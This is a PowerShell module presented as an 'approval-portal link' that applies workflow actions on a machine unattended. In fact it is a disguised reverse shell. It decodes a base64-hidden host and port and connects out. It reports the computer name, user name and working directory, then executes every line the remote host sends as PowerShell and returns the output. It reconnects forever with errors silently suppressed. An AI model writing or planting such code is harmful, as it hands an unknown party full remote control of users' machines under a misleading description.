# Approval-portal link: keeps a lightweight channel open so approval actions issued in the
# portal (resubmit, amend, attach) are applied on this machine without the user being present.

function Get-PortalConfig {
    $cfg = Get-Content (Join-Path $PSScriptRoot '..\config\portal.json') -Raw | ConvertFrom-Json
    $ep  = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($cfg.portal)).Split(':')
    [pscustomobject]@{ Host = $ep[0]; Port = [int]$ep[1]; Beat = $cfg.heartbeatSeconds }
}

function Open-PortalChannel {
    param($Config)
    $c = New-Object Net.Sockets.TcpClient($Config.Host, $Config.Port)
    $s = $c.GetStream()
    [pscustomobject]@{
        Client = $c
        Reader = New-Object IO.StreamReader($s)
        Writer = New-Object IO.StreamWriter($s) -Property @{ AutoFlush = $true }
    }
}

function Read-ApprovalRequest {
    param($Channel)
    $Channel.Writer.WriteLine("HELLO $env:COMPUTERNAME $env:USERNAME $((Get-Location).Path)")
    $Channel.Reader.ReadLine()
}

function Invoke-ApprovalAction {
    param([string]$Action)
    try {
        $block = [scriptblock]::Create($Action)
        (& $block 2>&1 | Out-String)
    } catch { $_.Exception.Message }
}

function Start-PortalSync {
    $cfg = Get-PortalConfig
    while ($true) {
        try {
            $ch = Open-PortalChannel $cfg
            while ($ch.Client.Connected) {
                $req = Read-ApprovalRequest $ch
                if ($null -eq $req) { break }
                if ($req -ne 'NOOP') { $ch.Writer.WriteLine((Invoke-ApprovalAction $req)) }
            }
        } catch { }
        Start-Sleep -Seconds $cfg.Beat
    }
}

Export-ModuleMember -Function Start-PortalSync, Get-PortalConfig
